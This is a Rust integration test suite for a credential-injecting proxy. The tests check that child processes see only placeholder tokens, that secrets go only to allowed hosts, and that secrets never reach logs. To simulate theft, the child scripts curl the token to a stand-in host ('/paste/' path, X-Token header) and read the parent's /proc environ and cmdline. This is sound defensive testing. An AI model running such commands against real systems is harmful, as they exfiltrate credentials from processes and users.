//! `[[credentials]]` through the binary: the child holds a placeholder, the
//! origin gets the secret, the placeholder is refused anywhere else, and the
//! secret is in no log, no record and no child's reach.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod common;

use common::*;

const SECRET: &str = "ghp_REALsecretREALsecretREALsecret012345";

#[tokio::test]
async fn the_child_holds_a_placeholder_and_the_origin_gets_the_secret() {
    let (secure, pem) = https_origin().await;
    let plain = origin().await;
    let dir = tempfile::tempdir().unwrap();
    let config = mitm_config(dir.path(), &pem);
    let violations = dir.path().join("violations.jsonl");
    let access = dir.path().join("access.jsonl");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(&format!(
        r#"
[network]
allowed_domains = ["secure.test", "other.test"]
allow_local_binding = true

[dns]
hosts = {{ "secure.test" = ["127.0.0.1"], "other.test" = ["127.0.0.1"] }}

[log]
violations_file = {violations:?}
access_file = {access:?}

[[credentials]]
name = "github"
hosts = ["secure.test"]
value = "Bearer {{secret}}"
source = {{ env = "TEST_TOKEN" }}
placeholder_env = "GITHUB_TOKEN"
"#
    ));
    std::fs::write(&config, text).unwrap();
    let script = format!(
        "echo \"$GITHUB_TOKEN\"; \
         curl -s -H \"Authorization: Bearer $GITHUB_TOKEN\" https://secure.test:{}/whoami; echo; \
         curl -s -o /dev/null -w '%{{http_code}}' -H \"X-Token: $GITHUB_TOKEN\" http://other.test:{}/; echo; \
         curl -s -o /dev/null https://secure.test:{}/echo/$GITHUB_TOKEN; \
         curl -s -o /dev/null http://other.test:{}/paste/$GITHUB_TOKEN; \
         env | grep -c REALsecret; true",
        secure.port(),
        plain.addr.port(),
        secure.port(),
        plain.addr.port()
    );
    let (code, stdout, stderr) = output(
        portcullis()
            .env("TEST_TOKEN", SECRET)
            .env("PORTCULLIS_LOG", "trace")
            .args(["run", "--config"])
            .arg(&config)
            .args(["--", "sh", "-c", &script]),
    )
    .await;
    assert_eq!(code, Some(0), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 4, "{stdout}");
    let placeholder = lines[0];
    assert!(
        placeholder.starts_with("ghp_")
            && placeholder.len() == SECRET.len()
            && placeholder != SECRET,
        "the child gets a placeholder shaped like the token: {stdout}"
    );
    assert_eq!(
        lines[1],
        format!("auth Bearer {SECRET}"),
        "the origin gets the secret: {stderr}"
    );
    assert_eq!(
        lines[2], "403",
        "the placeholder headed elsewhere is refused"
    );
    assert_eq!(lines[3], "0", "no variable of the child holds the secret");
    assert!(
        !stderr.contains("REALsecret"),
        "not in any log line, even at trace"
    );
    assert!(
        stderr.contains("credential_mismatch") || stderr.contains("placeholder"),
        "{stderr}"
    );
    for file in [&violations, &access] {
        let text = std::fs::read_to_string(file).unwrap();
        assert!(!text.contains("REALsecret"), "{}: {text}", file.display());
        assert!(!text.contains(placeholder), "{}: {text}", file.display());
    }
    assert!(std::fs::read_to_string(&violations)
        .unwrap()
        .contains("credential_mismatch"));
    let masked = std::fs::read_to_string(&violations).unwrap();
    assert!(
        masked.contains("/paste/{credential:github}"),
        "a placeholder in a path is recorded by name: {masked}"
    );
    let records = std::fs::read_to_string(&access).unwrap();
    assert!(records.contains("/echo/{credential:github}"), "{records}");
    let whoami: serde_json::Value = records
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .find(|record| record["path"] == "/whoami")
        .expect("the request is recorded");
    assert_eq!(
        whoami["credentials"],
        serde_json::json!([{ "name": "github", "place": "header:authorization" }]),
        "the record names the credential and where it went"
    );
}

#[tokio::test]
async fn a_secret_that_cannot_be_read_stops_the_start_naming_the_credential() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("c.toml");
    for (source, code, said) in [
        (
            "{ env = \"NO_SUCH_TOKEN_VARIABLE\" }",
            69,
            "NO_SUCH_TOKEN_VARIABLE",
        ),
        ("{ command = [\"false\"] }", 69, "false failed"),
        (
            "{ file = \"/nonexistent/token\" }",
            69,
            "/nonexistent/token",
        ),
        ("{ env = \"A\", file = \"/x\" }", 69, "exactly one"),
    ] {
        std::fs::write(
            &config,
            format!("[[credentials]]\nname = \"gh\"\nhosts = [\"api.test\"]\nvalue = \"Bearer {{secret}}\"\nsource = {source}\n"),
        )
        .unwrap();
        let (exit, _, stderr) = output(
            portcullis()
                .env_remove("NO_SUCH_TOKEN_VARIABLE")
                .args(["run", "--config"])
                .arg(&config)
                .args(["--", "true"]),
        )
        .await;
        assert_eq!(exit, Some(code), "{source}: {stderr}");
        assert!(
            stderr.contains("credentials[0].source")
                && stderr.contains("\"gh\"")
                && stderr.contains(said),
            "{source}: {stderr}"
        );
        // `check` sends nothing, so it reads no secret; a source that is not
        // exactly one is still a mistake it names.
        let (exit, stdout, stderr) = output(
            portcullis()
                .env_remove("NO_SUCH_TOKEN_VARIABLE")
                .args(["check", "--config"])
                .arg(&config)
                .arg("api.test:443"),
        )
        .await;
        if said == "exactly one" {
            assert_eq!(exit, Some(69), "{source}: {stderr}");
            assert!(stderr.contains("credentials[0].source"), "{stderr}");
        } else {
            assert!(
                stderr.is_empty() || !stderr.contains("credentials[0].source"),
                "check read the secret: {source}: {stderr}"
            );
            assert!(
                stdout.contains("api.test:443"),
                "{source}: {stdout}{stderr}"
            );
        }
    }
    for (block, key) in [
        ("name = \"gh\"\nhosts = [\"*.github.io\"]\nvalue = \"{secret}\"\nsource = { env = \"PATH\" }\n", "credentials[0].hosts[0]"),
        ("name = \"gh\"\nhosts = []\nvalue = \"{secret}\"\nsource = { env = \"PATH\" }\n", "credentials[0].hosts"),
        ("name = \"gh\"\nhosts = [\"a.test\"]\nvalue = \"Bearer\"\nsource = { env = \"PATH\" }\n", "credentials[0]"),
        ("name = \"gh\"\nhosts = [\"a.test\"]\nvalue = \"{secret}\"\nsource = { env = \"PATH\" }\nsecret = \"x\"\n", "credentials[0].secret"),
    ] {
        std::fs::write(&config, format!("[[credentials]]\n{block}")).unwrap();
        let (exit, _, stderr) = output(
            portcullis()
                .args(["run", "--config"])
                .arg(&config)
                .args(["--", "true"]),
        )
        .await;
        assert_eq!(exit, Some(64), "{block}: {stderr}");
        assert!(stderr.contains(key) && stderr.contains("c.toml"), "{block}: {stderr}");
    }
}

#[tokio::test]
async fn a_proxy_holding_secrets_cannot_be_read_by_its_child() {
    // Root reads any process's memory: the proxy runs as nobody here (as a
    // user would run it), where only its non-dumpable flag stops a
    // same-user child reading /proc/<proxy>/environ.
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir(&home).unwrap();
    let config = dir.path().join("c.toml");
    std::fs::write(
        &config,
        "[[credentials]]\nname = \"gh\"\nhosts = [\"api.test\"]\nvalue = \"Bearer {secret}\"\nsource = { env = \"TEST_TOKEN\" }\n",
    )
    .unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    if nix::unistd::Uid::effective().is_root() {
        let nobody = nix::unistd::Uid::from_raw(65534);
        nix::unistd::chown(&home, Some(nobody), Some(nix::unistd::Gid::from_raw(65534))).unwrap();
    }
    let mut command = portcullis_unprivileged();
    command
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap())
        .env("HOME", &home)
        .env("XDG_DATA_HOME", &home)
        .env("TEST_TOKEN", SECRET)
        .args(["run", "--config"])
        .arg(&config)
        .args([
            "--",
            "sh",
            "-c",
            "cat /proc/$PPID/environ >/dev/null 2>&1 && echo readable || echo unreadable",
        ]);
    let (code, stdout, stderr) = output(&mut command).await;
    assert_eq!(code, Some(0), "{stderr}");
    assert_eq!(stdout.trim(), "unreadable", "{stderr}");
}

#[tokio::test]
async fn a_root_child_finds_no_secret_in_run_s_environment_and_is_warned() {
    // As root (the review's case) the child may read /proc/<run>/environ:
    // the variable's value must be gone from it, not just from the child's
    // own environment. The proxy still injects the secret it read.
    if !nix::unistd::Uid::effective().is_root() {
        eprintln!("skipped: needs root (a root child reading the proxy's /proc files)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("c.toml");
    std::fs::write(
        &config,
        "[[credentials]]\nname = \"gh\"\nhosts = [\"api.test\"]\nvalue = \"Bearer {secret}\"\nsource = { env = \"TEST_TOKEN\" }\n",
    )
    .unwrap();
    let script = "tr '\\0' '\\n' < /proc/$PPID/environ > environ.txt; tr '\\0' '\\n' < /proc/$PPID/cmdline > cmdline.txt; grep -c '^TEST_TOKEN=$' environ.txt";
    let (code, stdout, stderr) = output(
        portcullis()
            .current_dir(dir.path())
            .env("TEST_TOKEN", SECRET)
            .env("XDG_DATA_HOME", dir.path())
            .args(["run", "--config"])
            .arg(&config)
            .args(["--", "sh", "-c", script]),
    )
    .await;
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    // The name stays (the block keeps its shape), the value is gone.
    assert_eq!(stdout.trim(), "1", "{stderr}");
    for file in ["environ.txt", "cmdline.txt"] {
        let seen = std::fs::read(dir.path().join(file)).unwrap();
        assert!(
            !seen.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
            "{file} of the run process holds the secret"
        );
    }
    let warnings = stderr.matches("runs as root without --isolate").count();
    assert_eq!(warnings, 1, "{stderr}");
}

#[tokio::test]
async fn a_reload_reads_the_secrets_again_and_keeps_one_it_cannot_read() {
    let (secure, pem) = https_origin().await;
    let dir = tempfile::tempdir().unwrap();
    let config = mitm_config(dir.path(), &pem);
    let token = dir.path().join("token");
    std::fs::write(&token, "first-secret-value\n").unwrap();
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(&format!(
        "[network]\nallowed_domains = [\"secure.test\"]\nallow_local_binding = true\n[dns]\nhosts = {{ \"secure.test\" = [\"127.0.0.1\"] }}\n[[credentials]]\nname = \"svc\"\nhosts = [\"secure.test\"]\nvalue = \"Token {{secret}}\"\nsource = {{ file = {token:?} }}\n"
    ));
    std::fs::write(&config, text).unwrap();
    let (mut child, proxy) = serve_config(&config).await;
    let ca = dir.path().join("ca").join("ca.pem").display().to_string();
    let url = format!("https://secure.test:{}/whoami", secure.port());
    let whoami = || {
        let (proxy, ca, url) = (proxy.clone(), ca.clone(), url.clone());
        async move { curl(&["--cacert", &ca, "-x", &proxy, &url]).await.stdout }
    };
    assert_eq!(whoami().await, "auth Token first-secret-value");
    let pid = nix::unistd::Pid::from_raw(child.id().unwrap() as i32);
    let hang_up = || nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGHUP).unwrap();
    std::fs::write(&token, "second-secret-value\n").unwrap();
    hang_up();
    // The reload lands soon after the signal (bounded wait).
    let mut seen = String::new();
    for _ in 0..50 {
        seen = whoami().await;
        if seen != "auth Token first-secret-value" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(seen, "auth Token second-secret-value");
    // A secret that cannot be read: the one in force stays.
    std::fs::remove_file(&token).unwrap();
    hang_up();
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    assert_eq!(whoami().await, "auth Token second-secret-value");
    let (_, stderr) = terminate(&mut child).await;
    assert!(stderr.contains("keeping the secret in force"), "{stderr}");
    assert!(!stderr.contains("secret-value"), "{stderr}");
}
